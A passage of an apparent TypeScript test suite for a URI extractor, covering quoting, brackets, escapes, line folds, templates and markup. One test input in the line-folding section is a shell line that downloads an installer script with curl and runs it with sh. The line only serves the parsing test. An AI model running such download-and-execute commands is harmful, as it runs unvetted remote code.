      ["http://d.example/ef", true],
      ["http://e.example/fg", true],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a bare scheme hyphenated at a line break is read from its first piece (url(7))", () => {
    // "go‐" LF "pher://…" gave "pher://…": the first piece and the second make a registered
    // scheme, the second alone is none
    const text =
      "       go\u2010\n       pher://ip_server/go\u2010\n       phertype selector\n" +
      "An example is (tel\u2010\n       net://melvyl.ucop.edu/).\nsee ht-\n  tp://a.example/x\n" +
      // the second piece a registered scheme itself, or the two none: as written
      "pre-\nhttp://b.example/ some-\nthing://c.example/ x-\n  app://d.example/";
    const found = extractText(text);
    expect(found.map((f) => [f.uri, f.wrapped])).toEqual([
      ["gopher://ip_server/gophertype", true],
      ["telnet://melvyl.ucop.edu/", true],
      ["http://a.example/x", true],
      ["http://b.example/", false],
      ["thing://c.example/", false],
      ["app://d.example/", false],
    ]);
    for (const f of found)
      expect(Buffer.from(text).subarray(f.start, f.end).toString()).toBe(f.raw);
    expect(found[0]!.raw.startsWith("go\u2010\n")).toBe(true);
    expectRecordsAtEverySplit(text);
  });

  test("…alike for any chunking", () => {
    const text =
      "> x https://a.example/lat\u2010\r\n>    est/b <https://c.example/d\u00ad\n e> " +
      "\u27e8http://f.example/g/\n  h\u27e9 \u27e8http://i.example/\u27e9";
    const whole = extractText(text);
    expect(whole.map((f) => f.uri)).toEqual([
      "https://a.example/latest/b",
      "https://c.example/de",
      "http://f.example/g/h",
      "http://i.example/",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("quotes", () => {
  test("a double quote inside single quotes is the URI's, read percent-encoded (found in real text)", () => {
    const found = extractText(
      "import 'data:text/javascript,console.log(\"hello!\");'; url = 'https://example.com/?q=\"x\"'",
    );
    expect(found.map((f) => [f.uri, f.normalized, f.warnings])).toEqual([
      [
        'data:text/javascript,console.log("hello!");',
        "data:text/javascript,console.log(%22hello!%22);",
        ["unencoded-characters"],
      ],
      ['https://example.com/?q="x"', "https://example.com/?q=%22x%22", ["unencoded-characters"]],
    ]);
  });

  test("\"…\" and '…' run to the matching quote", () => {
    const found = extractText(`a "http://example.com/x.y." b 'https://example.com/it,s' c`);
    expect(found.map((f) => [f.uri, f.delimiter])).toEqual([
      ["http://example.com/x.y.", "quote"],
      ["https://example.com/it,s", "quote"],
    ]);
    expect(found[0]!.raw).toBe('"http://example.com/x.y."');
  });

  test("no whitespace inside a line: the bare rules apply", () => {
    const found = extractText('"http://example.com/a b"');
    expect(found.map((f) => [f.uri, f.delimiter])).toEqual([["http://example.com/a", "bare"]]);
  });

  test("a double-quoted URI broken across lines is joined (2396bis App. E)", () => {
    // as RFCs print them
    const f = one('   "https://www.example.com/a/\n   index.html"\n');
    expect(f).toMatchObject({
      uri: "https://www.example.com/a/index.html",
      delimiter: "quote",
      wrapped: true,
      raw: '"https://www.example.com/a/\n   index.html"',
      start: 3,
      line: 1,
      column: 4,
    });
    expect(uris('"https://cert.example.org  \r\n\t/passport.cer"')).toEqual([
      "https://cert.example.org/passport.cer",
    ]);
    // a hyphen at the break: both readings (keep is the default)
    const h = one('"urn:ietf:params:rtp-\n   hdrext:sdes:cname"');
    expect(h.uri).toBe("urn:ietf:params:rtp-hdrext:sdes:cname");
    expect(h.variants).toEqual(["urn:ietf:params:rtphdrext:sdes:cname"]);
    // an RFC 8792 backslash fold (§7.2.2), and the form that opens the next line too (§7.2.3)
    expect(
      uris(
        '"https://example.com/modules/\\\n    ietf-yang-library/2016-06-21" "urn:example:a\\\n  \\bc"',
      ),
    ).toEqual(["https://example.com/modules/ietf-yang-library/2016-06-21", "urn:example:abc"]);
  });

  test("…in a quoted mail reply too: the opening line's quote markers are dropped, as inside <…>", () => {
    // (a probe that re-wrapped real URLs: a quoted reply cut them at the break)
    const text =
      '> a "https://bug\n> s.example.org/x?id=1" b\n> > c "https://d.example/e/\n> >   f.html" g\n' +
      // a deeper quote on the next line is a reply under it; an unquoted line's URI is not
      // continued on a quoted one
      '> h "https://i.example/j\n> > k"\nl "https://m.example/n\n> o"';
    expect(uris(text)).toEqual([
      "https://bugs.example.org/x?id=1",
      "https://d.example/e/f.html",
      "https://i.example/j",
      "https://m.example/n",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("…but not across a space inside a line or a blank line (single quotes as double: session 39)", () => {
    expect(
      extractText(
        '"http://a.example/x\n and more text" "http://b.example/y\n\n z" \'http://c.example/z\n w\'',
      ).map((f) => [f.uri, f.delimiter]),
    ).toEqual([
      ["http://a.example/x", "bare"],
      ["http://b.example/y", "bare"],
      ["http://c.example/zw", "quote"],
    ]);
    // code: a quoted list with one URI per line, Python's implicit string concatenation
    expect(
      uris('timestamps="http://ts.example.com\n      http://time.example.pl http://x.example/"'),
    ).toEqual(["http://ts.example.com", "http://time.example.pl", "http://x.example/"]);
    expect(
      uris("    '\"http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/'\n    'svg10.dtd\">'"),
    ).toEqual(["http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/"]);
    // the next line's quote closes it: each URI once
    expect(uris('"http://a.example/x\n"http://b.example/y"')).toEqual([
      "http://a.example/x",
      "http://b.example/y",
    ]);
  });

  test("joined whatever the chunking", () => {
    expectAtEverySplit('a "https://x.example/a-\r\n   b/c\\\n  d" z', ["https://x.example/a-b/cd"]);
    // the next line's word with a ":" at the end of the input
    expect(uris('"http://a.example/x\n  y:"')).toEqual(["http://a.example/xy:"]);
  });

  test("a placeholder's ${ ends a quoted URI before its segment (session 34: before its $)", () => {
    expect(
      extractText('"https://${HOST}/pub/x" "https://e.example/dl/v${V}/bar-${V}.tar.gz"').map(
        (f) => [f.uri, f.delimiter],
      ),
    ).toEqual([["https://e.example/dl/", "bare"]]);
  });

  test('"key:value" is not a URI', () => {
    expect(uris('{"key":"value","a":"key:value"}')).toEqual([]);
  });
});

describe("brackets and parentheses", () => {
  test("an opening parenthesis that nothing closes, at the end, is the text's", () => {
    expect(uris("see http://example.org/( and http://example.org/a(.")).toEqual([
      "http://example.org/",
      "http://example.org/a",
    ]);
    // closed inside, or followed by more of the URI, it stays
    expect(uris("http://example.org/a_(b) http://example.org/(a")).toEqual([
      "http://example.org/a_(b)",
      "http://example.org/(a",
    ]);
    expectAtEverySplit("x http://example.org/((. y", ["http://example.org/"]);
  });

  test("a parenthesis left open in the URI and closed after a space on the line is the text's", () => {
    // twitter-text autolink.yml, linkify-it: "(URL description with spaces and (parentheses))"
    expect(uris("see http://example.com/a(b c) and (http://example.com/d((e f)) g)")).toEqual([
      "http://example.com/a",
      "http://example.com/d",
    ]);
    // closed inside the URI, not closed at all, or closed on another line: it stays
    expect(uris("http://x.example/a(b) c) http://x.example/f(g h\ni)")).toEqual([
      "http://x.example/a(b)",
      "http://x.example/f(g",
    ]);
    // looked for within 256 bytes only; after the authority only (a userinfo's "(" stays)
    expect(uris(`http://x.example/a(b ${"y".repeat(300)})`)).toEqual(["http://x.example/a(b"]);
    expect(uris("http://u(x@a.example/p(q r))")).toEqual(["http://u(x@a.example/p"]);
    // a schemeless link ends where the scheme'd one does
    expect(uris("see www.a.com/We_Up(URL description) ok", { fuzzy: true })).toEqual([
      "http://www.a.com/We_Up",
    ]);
    expectAtEverySplit("x http://example.com/We_Up(URL text and (more)) y", [
      "http://example.com/We_Up",
    ]);
  });

  test("a bracket right before scheme:// in a path opens another URI", () => {
    expect(
      uris("http://a.example/x[http://b.example/ and http://a.example/y(http://b.example/)"),
    ).toEqual([
      "http://a.example/x",
      "http://b.example/",
      "http://a.example/y",
      "http://b.example/",
    ]);
    // in a query a value may hold one; in the authority "[" opens an IP literal
    expect(uris("http://a.example/x?u=[http://b.example/] http://[::1]:80/x")).toEqual([
      "http://a.example/x?u=[http://b.example/]",
      "http://[::1]:80/x",
    ]);
    expectAtEverySplit("http://a.example/x[http://b.example/] y", [
      "http://a.example/x",
      "http://b.example/",
    ]);
  });

  test("a brace pair may hold an apostrophe inside a word (linkify-it)", () => {
    expect(uris("http://foo.com/blah_blah_{I'm_king} x")).toEqual([
      "http://foo.com/blah_blah_{I'm_king}",
    ]);
    expect(uris("http://x.example/{'a'} x")).toEqual(["http://x.example/"]);
  });

  test("closer kept only when it balances an opener inside the URI", () => {
    expect(uris("See https://en.wikipedia.org/wiki/URI_(disambiguation).")).toEqual([
      "https://en.wikipedia.org/wiki/URI_(disambiguation)",
    ]);
    const f = one("(see https://en.wikipedia.org/wiki/URI_(disambiguation))");
    expect(f.uri).toBe("https://en.wikipedia.org/wiki/URI_(disambiguation)");
    const g = one("(https://example.com/a)");
    expect([g.uri, g.delimiter, g.raw]).toEqual([
      "https://example.com/a",
      "paren",
      "https://example.com/a",
    ]);
    expect(one("[http://example.com/b]").delimiter).toBe("paren");
    expect(one("{http://example.com/c}").uri).toBe("http://example.com/c");
  });

  test("IPv6 literal brackets stay", () => {
    expect(uris("at http://[2001:db8::1]:8080/x.")).toEqual(["http://[2001:db8::1]:8080/x"]);
  });
});

describe("bare URIs", () => {
  test("only punctuation after a registered scheme's colon is no URI (ASCII art arrows)", () => {
    // RFC 8655 and RFC 8939 (DetNet) figures: "|<--:Svc Proxy:-- E2E Service---:Svc Proxy:-->|"
    const art = "|<--:Svc Proxy:-- E2E Service---:Svc Proxy:-->|\nsip:-- tel:+ data:,";
    expect(extractText(art, { includeInvalid: true })).toEqual([]);
    // "news:*" is every newsgroup (RFC 1738 §3.6); in angle brackets the wrapper says it all
    expect(uris("news:* (news:*) <data:,> file:/// ldap:///")).toEqual([
      "news:*",
      "news:*",
      "data:,",
      "file:///",
      "ldap:///",
    ]);
    // a data URI's comma is its syntax (RFC 2397 §3): "-" is its text (found by the
    // planted-URI test)
    expect(uris("see data:,-. and data:,.")).toEqual(["data:,-"]);
  });

  test("trailing . , ; : ! ? ' \" dropped", () => {
    expect(
      uris("go to http://example.com/a.b, then http://example.com/c; ok? http://example.com/d!'"),
    ).toEqual(["http://example.com/a.b", "http://example.com/c", "http://example.com/d"]);
  });

  test("Markdown emphasis around a bare URI is not part of it", () => {
    expect(
      uris(
        "**http://a.example/b** _http://a.example/c_d_ ~~http://a.example/~e~~, *http://a.example/f*.",
      ),
    ).toEqual([
      "http://a.example/b",
      "http://a.example/c_d",
      "http://a.example/~e",
      "http://a.example/f",
    ]);
    // without an opening mark the characters are the URI's own (sub-delims, unreserved)
    expect(
      uris("see http://a.example/b** and http://a.example/c_ and http://a.example/d*"),
    ).toEqual(["http://a.example/b**", "http://a.example/c_", "http://a.example/d*"]);
  });

  test("file names, class paths and Maven coordinates in build logs are not URIs", () => {
    const log = [
      "main.go:132: undefined: x",
      "pkg/a_test.go:23:2: missing return",
      "-cp /m2/hamcrest-core-1.3.jar:/builds/classes/:/m2/junit-4.11.jar:/builds/x.jar",
      "[INFO] Building com.example:app:jar:1.0-SNAPSHOT",
      "org.junit.platform:junit-platform-launcher:1.8.2:test",
    ].join("\n");
    expect(uris(log)).toEqual([]);
    // a URI right after a colon-separated field, and one glued after an ellipsis, still are
    expect(
      uris("Error:http://a.example/x URL:mailto:a@b.example see...mailto:c@d.example"),
    ).toEqual(["http://a.example/x", "mailto:a@b.example", "mailto:c@d.example"]);
  });

  test("a scheme named with nothing after // and a drive letter are not URIs", () => {
    expect(uris('use socket://, tcp:// or "curl://" — C:////temp, C:\\x, <C:/x> D://y')).toEqual(
      [],
    );
    expect(uris("file:/// and xy://z")).toEqual(["file:///", "xy://z"]);
  });

  test("registered schemes without //, and scheme:// for any scheme", () => {
    expect(
      uris("mailto:a@example.com news:comp.lang.c tel:+1-201-555-0123 x-app://open/x"),
    ).toEqual([
      "mailto:a@example.com",
      "news:comp.lang.c",
      "tel:+1-201-555-0123",
      "x-app://open/x",
    ]);
  });

  test("not URIs", () => {
    const text = [
      "Message-ID: <1234@host.example.com>",
      "From: someone@example.com",
      "<b>bold</b> at 12:30:45",
      "Re: x",
      "Note: see below",
      "key:value",
      '127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET /index.html HTTP/1.0" 200 2326',
      "http:// alone",
    ].join("\n");
    expect(uris(text)).toEqual([]);
  });

  test("scheme look-back: a scheme starts with a letter, not inside a word", () => {
    expect(uris("see...http://example.com/a")).toEqual(["http://example.com/a"]);
    expect(uris("e.g.https://example.com/b")).toEqual(["https://example.com/b"]);
    // a wrapper marks where the scheme starts: the dotted scheme stays whole
    expect(uris("<a.aw://aa.example/x>")).toEqual(["a.aw://aa.example/x"]);
    expect(uris("xhttp:foo 2http:bar")).toEqual([]);
  });

  test("urn in running text: the NSS ends at an excluded character (rfc2141bis §2.5.3)", () => {
    expect(uris('The book is urn:isbn:0-395-36341-1 and the "urn:ietf:rfc:2141" memo.')).toEqual([
      "urn:isbn:0-395-36341-1",
      "urn:ietf:rfc:2141",
    ]);
    expect(uris("urn:example:a123z«")).toEqual(["urn:example:a123z"]);
  });

  test("IRIs are found whole; normalized is the core's URI form", () => {
    const f = one("voir http://例え.テスト/パス?q=値。 fin");
    expect(f.uri).toBe("http://例え.テスト/パス?q=値");
    expect(f.valid).toBe(true);
    expect(f.normalized).toBe(analyzeUri(f.uri).normalized);
    expect(f.raw).toBe("http://例え.テスト/パス?q=値");
    expect(f.end - f.start).toBe(Buffer.byteLength(f.raw));
  });

  test("non-ASCII punctuation ends a URI", () => {
    expect(uris("«http://example.com/a» “http://example.com/b” http://example.com/c、")).toEqual([
      "http://example.com/a",
      "http://example.com/b",
      "http://example.com/c",
    ]);
  });
});

describe("backslash escapes inside a bare URI (troff, Markdown, JSON)", () => {
  test("troff: \\- and \\. are the characters, \\& \\% \\: leave nothing", () => {
    const f = one("Report bugs at https://github.com/util\\-linux/util\\-linux/issues.\n");
    expect([f.uri, f.raw, f.valid]).toEqual([
      "https://github.com/util-linux/util-linux/issues",
      "https://github.com/util\\-linux/util\\-linux/issues",
      true,
    ]);
    expect(uris("see http://www\\&.valgrind\\&.org/docs/manual/index\\&.html")).toEqual([
      "http://www.valgrind.org/docs/manual/index.html",
    ]);
    expect(uris("https://github\\.com/facebook/zstd/issues and https:/\\:/x.example/\\%a")).toEqual(
      ["https://github.com/facebook/zstd/issues", "https://x.example/a"],
    );
  });

  test("troff: a font escape glued to the scheme is not the scheme's", () => {
    expect(
      uris("see \\f5gs://bucket/x\\fR, \\fBfile:///etc/x\\fR, \\fImailto:bug@example.org\\fR"),
    ).toEqual(["gs://bucket/x", "file:///etc/x", "mailto:bug@example.org"]);
    expect(uris("\\fIhttps://example.com/a\\fP")).toEqual(["https://example.com/a"]);
  });

  test("Markdown: escaped punctuation in a link destination", () => {
    expect(uris("[V8]: https://en.wikipedia.org/wiki/V8_\\(JavaScript_engine\\)")).toEqual([
      "https://en.wikipedia.org/wiki/V8_(JavaScript_engine)",
    ]);
    expect(uris("(refs https://github.com/o/r/issues/1293\\#issuecomment-7\\)")).toEqual([
      "https://github.com/o/r/issues/1293#issuecomment-7",
    ]);
  });

  test("JSON: escaped slashes in a log line", () => {
    const f = one('{"url":"https:\\/\\/example.com\\/a\\/b?c=d","n":1}');
    // the string is the URI: its quotes delimit it, as without escapes (session 30)
    expect([f.uri, f.raw, f.delimiter]).toEqual([
      "https://example.com/a/b?c=d",
      '"https:\\/\\/example.com\\/a\\/b?c=d"',
      "quote",
    ]);
  });

  test('JSON: escaped slashes after an unregistered scheme are its "//" (PHP\'s json_encode)', () => {
    const text =
      '{"repository":"git+https:\\/\\/github.com\\/npm\\/cli.git","s3":"s3:\\/\\/bucket\\/key"} foo:\\/\\/';
    expect(uris(text)).toEqual(["git+https://github.com/npm/cli.git", "s3://bucket/key"]);
    expectRecordsAtEverySplit(text);
  });

  test("not an escape: a letter after it, a backslash at the end, Windows paths", () => {
    expect(uris("\\fIhttps://example.com/x\\fR and http://example.com/a\\b")).toEqual([
      "https://example.com/x",
      "http://example.com/a",
    ]);
    expect(uris("http://example.com/a\\. next")).toEqual(["http://example.com/a"]);
    expect(uris("http://example.com/a\\")).toEqual(["http://example.com/a"]);
    // "\\f" before a lowercase letter is a form feed in C or JSON, not a troff font
    expect(uris('"\\fhttp://x.example/"')).toEqual(["http://x.example/"]);
  });

  test("LaTeX and Markdown: \\& is '&' (troff's zero-width one stands before a dot), \\%hh is '%'", () => {
    expect(uris("\\href{http://x.example/?a=1\\&b=2}{x} \\url{http://x.example/a\\%20b}")).toEqual([
      "http://x.example/?a=1&b=2",
      "http://x.example/a%20b",
    ]);
    expect(uris("[t](http://x.example/?a=1\\&b=2)")).toEqual(["http://x.example/?a=1&b=2"]);
  });

  test("the host rules hold through escapes: a comma, an apostrophe", () => {
    expect(uris("https:\\/\\/proxy.golang.org,direct https://proxy\\.golang\\.org,direct")).toEqual(
      ["https://proxy.golang.org", "https://proxy.golang.org"],
    );
    expect(uris("https:\\/\\/example.com's page")).toEqual(["https://example.com"]);
  });

  test("whatever the chunking", () => {
    const text = "x https:\\/\\/example.com\\/a\\-b\\&.c y";
    expectAtEverySplit(text, ["https://example.com/a-b.c"]);
  });
});

describe("RFC 8792 line folding in a bare URI", () => {
  test("one backslash: a long line folded onto an indented one (RFC 8040's examples)", () => {
    const text =
      "      Location: https://example.com/restconf/data/\\\n          example-jukebox:jukebox\n";
    const f = one(text);
    expect(f).toMatchObject({
      uri: "https://example.com/restconf/data/example-jukebox:jukebox",
      wrapped: true,
      raw: "https://example.com/restconf/data/\\\n          example-jukebox:jukebox",
    });
    expectAtEverySplit(text, [f.uri]);
    // folded twice
    expect(
      uris(
        "      Location: https://example.com/restconf/data/\\\n          example-jukebox:jukebox/artist=Foo/\\\n          album=Bar\n",
      ),
    ).toEqual(["https://example.com/restconf/data/example-jukebox:jukebox/artist=Foo/album=Bar"]);
  });

  test("two backslashes (§7.2.3): the next line's backslash marks where the URI goes on", () => {
    const text = "x https://www.example.com/modules/\\\n   \\ietf-yang-library/2016 y";
    expect(uris(text)).toEqual(["https://www.example.com/modules/ietf-yang-library/2016"]);
    expectAtEverySplit(text, uris(text));
  });

  test("a continuation of words, a path, an operator: a shell's, C's or a list's, no fold", () => {
    const cases: Array<[string, string]> = [
      [
        "- A long list item that links to https://example.com/page\\\n  and continues on the next line",
        "https://example.com/page",
      ],
      [
        "    git clone https://github.com/example/some-repo.git\\\n        /opt/some-repo",
        "https://github.com/example/some-repo.git",
      ],
      [
        "curl -fsSL -o /tmp/installer.sh https://example.com/install.sh\\\n  && sh /tmp/installer.sh",
        "https://example.com/install.sh",
      ],
      [
        "#define PROJECT_HOMEPAGE http://example.com/project/\\\n    /* more */",
        "http://example.com/project/",
      ],
      [
        "echo 'the downloads are at https://example.com/files'\\\n  'and mirrors'",
        "https://example.com/files",
      ],
    ];
    for (const [text, uri] of cases) expect(uris(text), text).toEqual([uri]);
  });

  test("a fold after a line folded after a blank (RFC 8792 §7.2.2) joins", () => {
    // a shell's continued line looks the same ("xsltproc \\" LF "    http://…/docbook.xsl\\"
    // LF "    debian/gentoo.1.xml" is read as one URI): RFC 8792's text is the spec's
    const text =
      "NOTE: '\\' line wrapping per RFC 8792\n\n  <a> \\\n" +
      "  https://example.com/another/very/long/path/f\\\n  olded/too\n";
    expect(uris(text)).toEqual(["https://example.com/another/very/long/path/folded/too"]);
    expectRecordsAtEverySplit(text);
  });

  test("a Markdown hard break, a short line, markup after: no fold", () => {
    expect(uris("see https://example.com/a\\\nnext line")).toEqual(["https://example.com/a"]);
    expect(uris("- see https://example.com/a\\\n  next")).toEqual(["https://example.com/a"]);
    expect(uris("   <location>https://example.com/streams/NETCONF\\\n    </location>")).toEqual([
      "https://example.com/streams/NETCONF",
    ]);
  });
});

describe("the end of a bare URI in code and markup", () => {
  test("a template placeholder: the $ before { is the placeholder's", () => {
    const $ = "$";
    expect(uris(`new URL(\`https://example.org${$}{pathname}\`)`)).toEqual(["https://example.org"]);
    expect(uris(`fetch(\`http://${$}{req.url}\`) and tcp://${$}{host}`)).toEqual([]);
  });

  test("an old DOS or Windows drive path in a file URI is read whole (RFC 8089 App. E.2.2, E.4)", () => {
    // "\\" and "|" are forbidden by RFC 3986: the whole URI is found, and it is invalid — not
    // a valid "file:///C" cut at the drive letter
    const text =
      "open file:///C:\\Users\\me\\doc.txt. or (file:///c|/WINDOWS/clock.avi), " +
      '"file:c|/path/to/file" and file:///etc/x|grep, file:///C:/Users/me/b.txt file:///D:\\x|grep';
    const all = extractText(text, { includeInvalid: true }).map((f) => [f.uri, f.valid]);
    expect(all).toEqual([
      ["file:///C:\\Users\\me\\doc.txt", false],
      ["file:///c|/WINDOWS/clock.avi", false],
      ["file:c|/path/to/file", false],
      ["file:///etc/x", true],
      ["file:///C:/Users/me/b.txt", true],
      // only the drive letter's "|" is the path's: after it, a pipe
      ["file:///D:\\x", false],
    ]);
    expect(uris(text)).toEqual(["file:///etc/x", "file:///C:/Users/me/b.txt"]);
    expectRecordsAtEverySplit(text);
  });

  test("a pair of double quotes that opens a value inside the query is the URI's (GitHub's badge links)", () => {
    const text =
      '[![CI](https://github.com/o/r/workflows/CI/badge.svg)](https://github.com/o/r/actions?query=workflow%3A"CI")\n' +
      'see https://www.google.com/search?q="foo". And {"msg":"see https://a.example/?x=1","level":"info"}, ' +
      'https://a.example/?q="" https://a.example/p"x"/y "https://a.example/?q="x"';
    const found = extractText(text);
    expect(found.map((f) => f.uri)).toEqual([
      "https://github.com/o/r/workflows/CI/badge.svg",
      'https://github.com/o/r/actions?query=workflow%3A"CI"',
      'https://www.google.com/search?q="foo"',
      "https://a.example/?x=1",
      "https://a.example/?q=",
      "https://a.example/p",
      "https://a.example/?q=",
    ]);
    // read percent-encoded (raw-characters.ts), with the warning
    expect(found[1]!.normalized).toBe("https://github.com/o/r/actions?query=workflow%3A%22CI%22");
    expect(found[1]!.warnings).toContain("unencoded-characters");
    expectRecordsAtEverySplit(text);
  });

  test("a placeholder or a tag for a label of the host makes a template, not a URI of the first labels", () => {
    const $ = "$";
    const text =
      `\`https://codeload.${$}{domain}/a\` "https://service-identity.<Domain>/authenticate" ` +
      "https://s3.<i>region-code</i>.amazonaws.com/ http://10.0.<n>.1/x " +
      `https://s3.{region}.amazonaws.com/x https://api.${$}(hostname)/x \\(dqhttp://site.{one,two}.com\n` +
      "https://foo.<%= host %>/x\n" +
      // a sentence's period before a line break tag, and a path's braces, stay
      "Visit https://a.example.<br>Thanks.</p> or https://b.example.<br>http://c.example/ " +
      "https://d.example/a.{b} <p>See https://e.example.<br>and/or https://f.example.<br>E.g. " +
      "<td>http://g.example.</td><td>10.0.0.1</td> https://h.<D>/";
    expect(uris(text)).toEqual([
      "https://a.example",
      "https://b.example",
      "http://c.example/",
      "https://d.example/a.{b}",
      "https://e.example",
      "https://f.example",
      "http://g.example",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a placeholder or a tag for the port or the password makes a template, not a URI of the host before it", () => {
    // RFC 3986 §3.2.3: a port is digits; §3.2.1: no "{" or "<" in a userinfo. Before, each gave
    // its host alone ("http://localhost"), or the user name as a host ("mongodb://user")
    const $ = "$";
    const text =
      `curl http://localhost:${$}{PORT}/health http://127.0.0.1:{port}/x http://[::1]:{port}\n` +
      "http://localhost:<port>/x mongodb+srv://user:<password>@cluster0.example.net/db " +
      `http://user:${$}{PASS}@host.example/ https://example.com:{{ port }}/ http://h.example:${$}(p)/\n` +
      // a tag no HTML element has is a placeholder there, whatever follows it
      "open http://localhost:<port> in a browser, http://localhost:<PORT>.\n" +
      // a colon and a tag that is the text's, and real ports, stay
      "see http://a.example:<br>next <br/>http://a.example:<br/>http://b.example:8080/x http://c.example:/y " +
      "http://d.example: (the host) <b>http://e.example:</b> http://f.example:<em>8080</em>/p";
    expect(uris(text)).toEqual([
      "http://a.example",
      "http://a.example",
      "http://b.example:8080/x",
      "http://c.example:/y",
      "http://d.example",
      "http://e.example",
      // (a port in markup: the URI as far as the raw text goes, as before)
      "http://f.example",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("an XML tag with a registered scheme as its prefix is markup when the tag shows it: attributes, '/>', the end tag", () => {
    // (a probe of 2,540 XML files) DOAP's "<xmpp:xep rdf:resource='…'/>" gave
    // "xmpp:xeprdf:resource='https://x.org/p'/", the spaces dropped as in a wrapped URI;
    // Spring's "<aop:config …>", GeoRSS's "<geo:lat>", WebDAV's "<DAV:href>" gave their
    // names. The attribute's own URI is still found
    const text =
      "<xmpp:xep rdf:resource='https://x.org/p'/> <xmpp:xep\n   rdf:resource=\"https://x.org/q\"/>\n" +
      '<aop:config proxy-target-class="true"> <jms:annotation-driven/> <jms:listener-container />\n' +
      "<geo:lat>52.5</geo:lat> <xmpp:version>0.1</xmpp:version> <DAV:href>http://a.example/x</DAV:href>\n" +
      // a URI in angle brackets with no such markup after it stays, wrapped or not
      "<xmpp:romeo@montague.net> <news:comp.lang.c> <urn:ietf:rfc:3986> <news:comp.\n  lang.c>\n" +
      "<http://b.example/\n  c=d> <mailto:foo\n  @example.org>\n" +
      // a parent element: a child of the same prefix first after it (not after a dotted name)
      "<xmpp:SupportedXep>\n  <xmpp:xep/>\n<news:comp.lang.c>\n <news:comp.lang.d>\n" +
      // … that shows markup itself: a sibling that is a URI too is none (review)
      "<about:blank> <about:config> <sip:alice>\n<sip:bob>";
    expect(uris(text)).toEqual([
      "https://x.org/p",
      "https://x.org/q",
      "http://a.example/x",
      "xmpp:romeo@montague.net",
      "news:comp.lang.c",
      "urn:ietf:rfc:3986",
      "news:comp.lang.c",
      "http://b.example/c=d",
      "mailto:foo@example.org",
      "news:comp.lang.c",
      "news:comp.lang.d",
      "about:blank",
      "about:config",
      "sip:alice",
      "sip:bob",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a C comment's '/*' or '*/' opens no emphasis: a later URI keeps its trailing '*'", () => {
    // (netlink(7)'s source: a "*/" 400 lines before cut "…/iproute2*" to "…/iproute2")
    const text = "    /* Continue with parsing payload */\nsee ftp://x.example/iproute2*\n";
    expect(uris(text)).toEqual(["ftp://x.example/iproute2*"]);
    expect(uris("*see http://a.example/b* /*http://c.example/d*/")).toEqual([
      "http://a.example/b",
      "http://c.example/d",
    ]);
    // a path's "/tmp/*" is no comment: its "*" closes the emphasis (review)
    expect(uris("*see /tmp/* and http://a.example/x*")).toEqual(["http://a.example/x*"]);
  });

  test("a time or its format is no URI of a two-letter registered scheme", () => {
    // "gg" is Gadu-Gadu's provisional scheme; uptime(1) in Polish: "rrrr-mm-dd GG:MM:SS"
    const text =
      "w formacie rrrr-mm-dd GG:MM:SS\nat gg:12:30, hh:mm:ss. im:user@example.org\t" +
      '(GG:MM:SS) "gg:12:30"\tGG:MM:SS';
    expect(uris(text)).toEqual(["im:user@example.org"]);
    expectRecordsAtEverySplit(text);
  });

  test("a single-quoted attribute's end and an empty element's '/>' after a bare URI are markup", () => {
    // "<meta content='0; url=http://x.example/a'/>" gave "http://x.example/a'/"
    expect(
      uris("<meta content='0; url=http://x.example/a'/> <link href='http://y.example/b/'/>"),
    ).toEqual(["http://x.example/a", "http://y.example/b/"]);
  });

  test("a Markdown inline link's destination runs to its ')': no trailing punctuation is the sentence's there", () => {
    // CommonMark §6.3; in prose the period after a URI in parentheses is still the sentence's
    const text =
      "[DC](https://en.wikipedia.org/wiki/Washington,_D.C.) [Y](https://en.wikipedia.org/wiki/Yahoo!) " +
      '(see http://a.example/b.) [x](http://a.example/c "title") [y](http://a.example/d/).';
    expect(uris(text)).toEqual([
      "https://en.wikipedia.org/wiki/Washington,_D.C.",
      "https://en.wikipedia.org/wiki/Yahoo!",
      "http://a.example/b",
      "http://a.example/c",
      "http://a.example/d/",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("an HTML comment's end", () => {
    expect(uris("<!--http://example.com/a-->")).toEqual(["http://example.com/a"]);
  });

  test("doubled emphasis markers close a phrase's emphasis", () => {
    expect(uris("**see https://example.com/a**.")).toEqual(["https://example.com/a"]);
    expect(uris("~~old https://example.com/b~~ and __c http://example.com/c__")).toEqual([
      "https://example.com/b",
      "http://example.com/c",
    ]);
  });

  test("a single marker closes a phrase's emphasis too (CommonMark §6.2)", () => {
    expect(
      uris("_see https://x.example/a_ and *docs: https://x.example/b*. (~c https://x.example/c~)"),
    ).toEqual(["https://x.example/a", "https://x.example/b", "https://x.example/c"]);
    // no opener, one inside a word, or one already closed: the URI's own character
    expect(
      uris(
        "see https://x.example/a_ x\nsnake_case https://x.example/b_\n*Note:* https://x.example/c*",
      ),
    ).toEqual(["https://x.example/a_", "https://x.example/b_", "https://x.example/c*"]);
    expect(uris("_see https://x.example/a_b")).toEqual(["https://x.example/a_b"]);
    // an opener on the line before is not this line's (found by the planted-URI test)
    expect(uris("see *\nhttps://x.example/a=*...")).toEqual(["https://x.example/a=*"]);
  });

  test("…but only emphasis the phrase opened: Python's __init__ and __pycache__ stay", () => {
    expect(uris("see https://docs.python.org/3/reference/datamodel.html#object.__init__")).toEqual([
      "https://docs.python.org/3/reference/datamodel.html#object.__init__",
    ]);
    expect(
      uris("the __init__ method: https://d.example/#object.__init__ and /x/__pycache__"),
    ).toEqual(["https://d.example/#object.__init__"]);
    expect(uris("http://x.example/a__b__ and http://x.example/a**b**")).toEqual([
      "http://x.example/a__b__",
      "http://x.example/a**b**",
    ]);
  });
});

describe("iCalendar and vCard content lines folded inside a URI (RFC 5545 §3.1, RFC 6350 §3.2)", () => {
  test("the fold (a line break and one space or tab) is deleted: one URI, wrapped", () => {
    const ics = [
      "BEGIN:VEVENT",
      'ORGANIZER;CN="Ken Murchison":mailto:murch@exampl',
      " e.com",
      "ATTENDEE;PARTSTAT=ACCEPTED:mailto:cyrus@example.c",
      "\tom",
      "URL:http://example.com/a/very/long/pa",
      " th/x.html",
      "END:VEVENT",
    ].join("\r\n");
    const found = extractText(ics);
